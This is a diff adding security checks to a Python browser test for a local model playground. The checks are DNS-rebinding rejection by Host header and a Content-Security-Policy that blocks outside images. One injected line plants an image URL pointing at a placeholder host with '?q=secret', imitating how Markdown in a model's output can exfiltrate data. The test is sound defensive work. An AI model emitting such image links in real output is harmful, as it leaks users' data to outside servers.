@@ -109,6 +109,20 @@ def test_the_playground_streams_both_models_side_by_side(
     browser.save_screenshot(str(tmp_path / "playground.png"))
     print(f"distinct lengths seen per pane: { {k: len(v) for k, v in lengths.items()} }")
     print(f"usable after {usable:.1f} s; screenshot {tmp_path / 'playground.png'}; {said.splitlines()[-1]}")
+    # A page elsewhere rebound to 127.0.0.1 names its own host: refused; the loopback names are served.
+    import requests
+
+    foreign = requests.get(f"http://127.0.0.1:{port}/", headers={"Host": f"rebound.example:{port}"}, timeout=30)
+    assert foreign.status_code == 400
+    page = requests.get(f"http://127.0.0.1:{port}/", headers={"Host": f"localhost:{port}"}, timeout=30)
+    assert page.ok and "img-src 'self'" in page.headers["content-security-policy"]
+    # An image from elsewhere, as a model's Markdown would make one, is not fetched by the browser.
+    browser.execute_script(
+        "window.blocked = []; document.addEventListener('securitypolicyviolation', e => window.blocked.push(e.blockedURI));"
+        "const img = new Image(); img.src = 'http://203.0.113.9/leak.png?q=secret'; document.body.appendChild(img);"
+    )
+    wait(lambda: browser.execute_script("return window.blocked.length"), "the image to be refused", 30)
+    assert browser.execute_script("return window.blocked")[0].startswith("http://203.0.113.9")
     # Ctrl-C stops the playground and the model servers it started.
     proc.send_signal(signal.SIGINT)
     assert proc.wait(timeout=limit(60)) == 0
